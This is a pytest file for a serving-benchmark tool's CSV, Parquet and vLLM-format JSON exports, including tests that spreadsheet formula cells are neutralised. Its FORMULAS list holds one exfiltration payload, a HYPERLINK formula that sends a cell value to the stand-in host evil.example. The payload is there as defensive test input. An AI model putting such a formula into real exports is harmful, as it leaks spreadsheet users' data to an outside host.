"""Exports read back equal to the store: CSV through pandas, Parquet through pyarrow,
and JSON in `vllm bench serve --save-result --save-detailed` field names and units."""

from __future__ import annotations

import csv
import io
import json
import math
import re
import sqlite3
from typing import Any

import pandas as pd
import pyarrow.parquet as pq
import pytest

from lib import cli, store
from lib.analysis import results
from lib.core import csv_safe
from lib.quality import review
from lib.report import exports
from tests.report.test_report import EVIL_ANSWER, EVIL_ERROR, call, record_run

# Every key `vllm bench serve` writes with --save-result --save-detailed for a chat
# benchmark (vllm/benchmarks/serve.py: main_async's result_json, benchmark()'s result,
# process_one_metric for ttft, tpot, itl, e2el), less the ones servescope cannot measure
# the way vLLM does (max_output_tokens_per_s, rtfx, queue_times).
VLLM_KEYS = {
    "date", "endpoint_type", "backend", "label", "model_id", "tokenizer_id", "num_prompts",
    "request_rate", "burstiness", "max_concurrency", "duration", "completed", "failed",
    "total_input_tokens", "total_output_tokens", "request_throughput", "request_goodput",
    "output_throughput", "total_token_throughput", "input_lens", "output_lens", "ttfts",
    "itls", "latencies", "start_times", "generated_texts", "errors", "max_concurrent_requests",
}  # fmt: skip
for _m in ("ttft", "tpot", "itl", "e2el"):
    VLLM_KEYS |= {f"mean_{_m}_ms", f"median_{_m}_ms", f"std_{_m}_ms", f"p99_{_m}_ms"}

INT_COLUMNS = ("lane_idx", "concurrency", "idx", "prompt_idx", "prompt_tokens", "output_tokens")
FLOAT_COLUMNS = ("t_send", "t_done", "ttft_ms", "e2el_ms", "tpot_ms", "tokens_per_s")
TEXT_COLUMNS = ("token_source", "output_text", "finish_reason", "error")


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    return record_run(tmp_path_factory.mktemp("exports"))


@pytest.fixture(scope="module")
def stored(run) -> list[dict[str, Any]]:
    db, run_id = run
    with store.opened(db) as conn:
        return store.get_requests(conn, run_id, include_warmup=True)


def same_float(a: Any, b: Any) -> bool:
    missing = (a is None or (isinstance(a, float) and math.isnan(a)), b is None)
    return all(missing) if any(missing) else float(a) == float(b)


def test_csv_reads_back_equal_to_the_store(run, stored):
    db, run_id = run
    frame = pd.read_csv(io.BytesIO(exports.csv_bytes(db, run_id)))
    assert list(frame.columns) == list(exports.ROW_COLUMNS)
    assert len(frame) == len(stored)
    assert EVIL_ANSWER in frame["output_text"].tolist()  # newlines and a bare CR: one cell
    for row, rec in zip(frame.to_dict("records"), stored, strict=True):
        assert row["run_id"] == run_id and bool(row["warmup"]) == rec["warmup"]
        for col in INT_COLUMNS:
            assert same_float(row[col], rec[col]), col
        for col in FLOAT_COLUMNS:
            assert same_float(row[col], rec[col]), col  # exact: floats round-trip
        for col in TEXT_COLUMNS:
            # CSV has one empty cell for both "" and no value.
            assert ("" if pd.isna(row[col]) else row[col]) == (rec[col] or ""), col
        assert json.loads(row["itl_ms"]) == rec["itl_ms"]
        for col in ("server", "quality"):
            assert (None if pd.isna(row[col]) else json.loads(row[col])) == rec[col], col
        codes = [f["code"] for f in (rec["quality"] or {}).get("flags", [])]
        assert ("" if pd.isna(row["quality_flags"]) else row["quality_flags"]) == ";".join(codes)


def test_parquet_reads_back_equal_to_the_store(run, stored):
    db, run_id = run
    table = pq.read_table(io.BytesIO(exports.parquet_bytes(db, run_id)))
    assert table.schema.remove_metadata() == exports.PARQUET_SCHEMA
    assert table.schema.metadata[b"servescope.run_id"] == run_id.encode()
    rows = table.to_pylist()
    assert len(rows) == len(stored)
    lanes = {lane["name"] for lane in results.run_document(db, run_id)["lanes"]}
    for row, rec in zip(rows, stored, strict=True):
        for col in (*INT_COLUMNS, *FLOAT_COLUMNS, *TEXT_COLUMNS, "warmup", "itl_ms"):
            assert row[col] == rec[col], col  # exact, None kept as None
        assert (json.loads(row["server"]) if row["server"] else None) == rec["server"]
        assert (json.loads(row["quality"]) if row["quality"] else None) == rec["quality"]
        assert row["quality_flags"] == [f["code"] for f in (rec["quality"] or {})["flags"]]
        assert row["lane"] in lanes


def test_vllm_json_has_vllms_fields_and_units(run, stored):
    db, run_id = run
    found = json.loads(exports.json_bytes(db, run_id))
    doc = results.run_document(db, run_id)
    assert len(found) == 4  # two lanes × levels 1 and 2
    pairs = [(ln, lv) for ln in doc["lanes"] for lv in ln["levels"]]
    for result, (lane, level) in zip(found, pairs, strict=True):
        assert set(result) >= VLLM_KEYS
        assert result["model_id"] == lane["model"]
        assert result["max_concurrency"] == level["concurrency"]
        assert result["backend"] == ("ollama" if lane["engine"] == "ollama" else "openai-chat")
        rows = [
            r
            for r in stored
            if not r["warmup"]
            and r["concurrency"] == level["concurrency"]
            and doc["lanes"][r["lane_idx"]]["name"] == lane["name"]
        ]
        assert result["num_prompts"] == len(rows)
        # Per request, seconds; a failed request as vLLM writes it.
        for i, r in enumerate(rows):
            ok = not r["error"]
            assert result["errors"][i] == (r["error"] or "")
            assert result["generated_texts"][i] == r["output_text"]
            assert result["ttfts"][i] == pytest.approx((r["ttft_ms"] or 0.0) / 1000, rel=1e-12)
            expected = r["e2el_ms"] / 1000 if ok else 0.0
            assert result["latencies"][i] == pytest.approx(expected, rel=1e-12)
            assert result["itls"][i] == pytest.approx([v / 1000 for v in r["itl_ms"]], rel=1e-12)
            assert result["output_lens"][i] == (r["output_tokens"] if ok else 0)
            assert result["input_lens"][i] == r["prompt_tokens"]
            assert result["start_times"][i] == r["t_send"]
        # Summary figures: the results document's, in ms, under vLLM's names.
        for key in ("completed", "failed", "request_throughput", "output_throughput"):
            assert result[key] == level[key], key
        assert result["duration"] == level["duration_s"]
        for metric in ("ttft", "tpot", "itl", "e2el"):
            dist = level[f"{metric}_ms"]
            assert result[f"mean_{metric}_ms"] == pytest.approx(dist["mean"], rel=1e-12)
            assert result[f"median_{metric}_ms"] == pytest.approx(dist["p50"], rel=1e-12)
            assert result[f"p99_{metric}_ms"] == pytest.approx(dist["p99"], rel=1e-12)
        assert 1 <= result["max_concurrent_requests"] <= level["concurrency"]
    failed = [e for result in found for e in result["errors"] if e]
    assert failed == [EVIL_ERROR]


def test_vllm_json_carries_each_levels_checks(run):
    """Every object holds its level's validation list, as the results document has it:
    a reader of the JSON alone sees what was checked and what did not pass."""
    db, run_id = run
    found = json.loads(exports.json_bytes(db, run_id))
    doc = results.run_document(db, run_id)
    levels = [lv for lane in doc["lanes"] for lv in lane["levels"]]
    for result, level in zip(found, levels, strict=True):
        names = [c["check"] for c in result["validation"]]
        assert names[:4] == ["streaming", "client_kept_up", "tokens", "consistency"]
        assert result["validation"] == level["validation"]
        assert all(set(c) == {"check", "status", "detail"} for c in result["validation"])
    # record_run turned one of the vLLM lane's c=1 answers into an error after the run:
    # the client's own count no longer matches the store, and the check says so.
    (lost,) = [c for c in found[2]["validation"] if c["check"] == "consistency"]
    assert lost["status"] == "fail" and "measurements were lost" in lost["detail"]
    lines = exports.json_bytes(db, run_id, lines=True).decode("utf-8").splitlines()
    assert [json.loads(line)["validation"] for line in lines] == [r["validation"] for r in found]


def test_jsonl_is_one_result_per_line(run, tmp_path):
    db, run_id = run
    out = exports.write_export(db, run_id, "json", tmp_path / "r.jsonl")
    lines = out.read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["max_concurrency"] for line in lines] == [1, 2, 1, 2]


def test_unknown_run_and_format(run):
    db, _ = run
    with pytest.raises(results.RunNotFound):
        exports.csv_bytes(db, "no-such-run")
    with pytest.raises(exports.ExportError, match="use one of csv, parquet, json"):
        exports.export_bytes(db, "x", "xlsx")


@pytest.mark.parametrize(("flag", "name"), [("--csv", "r.csv"), ("--parquet", "r.parquet"),
                                            ("--json", "r.json")])  # fmt: skip
def test_cli_export_writes_the_file(run, tmp_path, capsys, flag, name):
    db, run_id = run
    assert call("export", run_id, flag, str(tmp_path / name), "--db", str(db)) == 0
    assert (tmp_path / name).stat().st_size > 0
    assert re.search(rf"wrote .*{re.escape(name)} \(\d+ KB\)", capsys.readouterr().out)


def test_cli_export_needs_exactly_one_format(run, tmp_path):
    db, run_id = run
    with pytest.raises(cli.UsageError, match="one of the arguments --csv --parquet --json"):
        call("export", run_id, "--db", str(db))
    with pytest.raises(cli.UsageError, match="not allowed with argument"):
        call("export", run_id, "--csv", "a.csv", "--json", "b.json", "--db", str(db))
    with pytest.raises(cli.UsageError, match="no run 'nope'"):
        call("export", "nope", "--csv", str(tmp_path / "a.csv"), "--db", str(db))
    assert not (tmp_path / "a.csv").exists()


# --- spreadsheet formulas --------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-x", "@SUM(A1:A9)",
            "\tfoo", "\rbar"]  # fmt: skip


def test_csv_guards_cells_a_spreadsheet_would_evaluate(run, tmp_path):
    """Every text cell starting with = + - @ tab or CR (answers, errors, prompts, lane and
    model names) comes out behind a single quote; a negative number stays a number."""
    src_db, run_id = run
    db = tmp_path / "formulas.db"
    with sqlite3.connect(src_db) as src, sqlite3.connect(db) as dst:
        src.backup(dst)
    conn = sqlite3.connect(db)
    try:
        ids = [i for (i,) in conn.execute("SELECT id FROM requests ORDER BY id")]
        for rid, text in zip(ids, FORMULAS, strict=False):
            conn.execute("UPDATE requests SET output_text = ? WHERE id = ?", (text, rid))
        conn.execute("UPDATE requests SET error = '+err', ttft_ms = -3.5 WHERE id = ?", (ids[-1],))
        conn.execute("UPDATE lanes SET name = '=lane', model = '@model' WHERE lane_idx = 0")
        (config,) = conn.execute("SELECT config_json FROM runs").fetchone()
        config = json.loads(config)
        config["prompts"][0]["messages"][-1]["content"] = "-prompt"
        conn.execute("UPDATE runs SET config_json = ?", (json.dumps(config),))
        conn.commit()
    finally:
        conn.close()
    raw = exports.csv_bytes(db, run_id).decode("utf-8")
    frame = pd.read_csv(io.StringIO(raw))
    answers = frame["output_text"].tolist()
    for text in FORMULAS:
        assert "'" + text in answers and text not in answers, repr(text)
    assert "'+err" in frame["error"].tolist()
    assert set(frame.loc[frame["lane_idx"] == 0, "lane"]) == {"'=lane"}
    assert set(frame.loc[frame["lane_idx"] == 0, "model"]) == {"'@model"}
    assert "'-prompt" in frame["prompt"].tolist()
    # Numbers stay numbers: unquoted in the file, a float when read back.
    assert ",-3.5," in raw and "'-3.5" not in raw
    assert pd.api.types.is_float_dtype(frame["ttft_ms"]) and -3.5 in frame["ttft_ms"].tolist()
    assert frame["lane_idx"].min() == 0 and pd.api.types.is_integer_dtype(frame["lane_idx"])


def test_one_guard_for_every_csv():
    """lib.core.csv_safe.guard is the one rule: strings only, numbers and None pass through."""
    assert [csv_safe.guard(t) for t in FORMULAS] == ["'" + t for t in FORMULAS]
    assert [csv_safe.guard(v) for v in (-3.5, -2, None, "", "a=b", "3-1")] == [
        -3.5, -2, None, "", "a=b", "3-1"
    ]  # fmt: skip
    rows = [{"voter": "-x", "concurrency": -1, "prompt": "\rbar"}]
    parsed = next(csv.DictReader(io.StringIO(review.votes_csv(rows))))
    assert (parsed["voter"], parsed["concurrency"], parsed["prompt"]) == ("'-x", "-1", "'\rbar")
